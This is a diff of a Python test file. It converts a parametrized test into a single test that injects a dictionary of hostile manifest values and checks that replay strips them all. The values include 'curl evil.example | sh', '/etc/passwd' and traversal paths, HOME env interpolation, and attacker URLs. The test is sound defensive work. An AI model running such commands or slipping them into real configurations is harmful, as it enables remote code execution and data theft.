@@ -42,30 +42,32 @@ def test_the_settings_of_a_manifest_give_the_same_cells(recorded: dict[str, Any]
     assert [cell.folder for cell in again] == [cell.folder for cell in asked]
 
 
-@pytest.mark.parametrize(
-    ("key", "value"),
-    [
-        ("task._target_", "antigravity.fly"),
-        ("task.params.command", "curl evil.example | sh"),
-        ("task.params.model", "../../weights.pkl"),
-        ("optimizer._target_", "antigravity.fly"),
-        ("optimizer.options.file", "/etc/passwd"),
-        ("optimizer.label", "${oc.env:HOME}"),
-        ("agent.prompt", "../../../etc/passwd"),
-        ("llm.base_url", "http://evil.example"),
-        ("llm.proxy", "http://evil.example"),
-        ("llm.key_env", "HOME"),
-        ("llm.prices", "/etc/passwd"),
-        ("tcs.format", "${oc.env:HOME}"),
-        ("limits.trial_seconds", "${oc.env:HOME}"),
-        ("hydra.run.dir", "/tmp"),
-    ],
-)
-def test_code_addresses_paths_and_references_are_this_machines_own(recorded: dict[str, Any], key: str, value: str) -> None:
-    settings = settings_again(changed(recorded, key, value), [0], REPLAYED)
-    assert value not in str(settings)
+HOSTILE = {
+    "task._target_": "antigravity.fly",
+    "task.params.command": "curl evil.example | sh",
+    "task.params.model": "../../weights.pkl",
+    "optimizer._target_": "antigravity.fly",
+    "optimizer.options.file": "/etc/passwd",
+    "optimizer.label": "${oc.env:HOME}",
+    "agent.prompt": "../../../etc/passwd",
+    "llm.base_url": "http://evil.example",
+    "llm.proxy": "http://evil.example",
+    "llm.key_env": "HOME",
+    "llm.prices": "/etc/passwd",
+    "tcs.format": "${oc.env:HOME}",
+    "limits.trial_seconds": "${oc.env:HOME}",
+    "hydra.run.dir": "/tmp",
+}
+
+
+def test_code_addresses_paths_and_references_are_this_machines_own(recorded: dict[str, Any]) -> None:
+    manifest = recorded
+    for key, value in HOSTILE.items():
+        manifest = changed(manifest, key, value)
+    settings = settings_again(manifest, [0], REPLAYED)
+    assert [value for value in HOSTILE.values() if value in str(settings)] == []
     assert "antigravity" not in sys.modules
-    next(cells(settings))
+    assert next(cells(settings)).arm == "tcs_phi4+default"
 
 
 def test_an_llm_that_this_machine_has_no_file_of_replays_by_what_the_manifest_says(recorded: dict[str, Any]) -> None:
